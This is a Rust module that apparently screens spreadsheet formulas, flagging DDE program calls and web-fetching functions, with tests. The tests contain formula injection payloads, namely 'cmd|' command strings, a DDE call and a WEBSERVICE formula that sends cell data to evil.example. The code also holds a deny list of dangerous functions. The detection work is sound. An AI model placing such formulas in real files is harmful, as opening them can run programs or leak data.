//! Formulas of sheets and tables: what they call beside arithmetic.

use super::xml::Verdict;

/// Judges a formula, of Excel (ECMA-376, part 1, 18.17) or OpenFormula.
pub(super) fn formula(text: &str) -> Verdict {
    let code = bare(&text.to_lowercase())?;
    let mut rest = code.as_str();
    while let Some(at) = rest.find('(') {
        let called = rest[..at].trim_end();
        let name = called.rsplit(|letter: char| !(letter.is_alphanumeric() || "._".contains(letter))).next();
        let name = name.unwrap_or_default();
        match name.strip_prefix("_xlfn.").unwrap_or(name) {
            "dde" | "call" | "exec" | "register" | "register.id" | "rtd" => return Err("file-commands"),
            "webservice" | "image" | "sql.request" => return Err("file-fetches"),
            _ => rest = &rest[at + 1..],
        }
    }
    Ok(())
}

/// A formula without its texts and the quoted names of its sheets. A bar outside them is a call of another program
/// (`cmd|'/c calc'!A0`), unless it parts the rows of a list in braces, as OpenFormula writes them.
fn bare(text: &str) -> Result<String, &'static str> {
    let (mut code, mut within, mut braces) = (String::with_capacity(text.len()), None, 0_usize);
    for letter in text.chars() {
        match (within, letter) {
            (Some(quote), _) if letter == quote => within = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => within = Some(letter),
            (None, '|') if braces == 0 => return Err("file-commands"),
            (None, _) => {
                match letter {
                    '{' => braces += 1,
                    '}' => braces = braces.saturating_sub(1),
                    _ => {}
                }
                code.push(letter);
            }
        }
    }
    Ok(code)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_formula_may_not_call_a_program() {
        let calls =
            ["cmd|'/c calc'!A0", "=cmd|' /C calc'!'A1'", "of:=DDE(\"soffice\";\"a\";\"b\")", "CALL(1,2)", "RTD (1)"];
        for calls in calls {
            assert_eq!(formula(calls), Err("file-commands"), "{calls}");
        }
    }

    #[test]
    fn a_formula_may_not_fetch() {
        for fetches in ["_xlfn.WEBSERVICE(\"http://evil.example/\"&A1)", "1+_xlfn.IMAGE(A1)", "SUM(1,webservice(A1))"] {
            assert_eq!(formula(fetches), Err("file-fetches"), "{fetches}");
        }
    }

    #[test]
    fn arithmetic_is_taken() {
        let usual = [
            "SUM('Quý 1|2'!A1:A9)*1.08",
            "IF(A1=\"a|b\",\"WEBSERVICE(x)\",VLOOKUP(B1,Tinh!$A$1:$B$34,2,FALSE))",
            "of:=SUM({1;2|3;4})",
            "MyWebservice(1)",
            "Sheet1!$A$1",
        ];
        for usual in usual {
            assert_eq!(formula(usual), Ok(()), "{usual}");
        }
    }
}
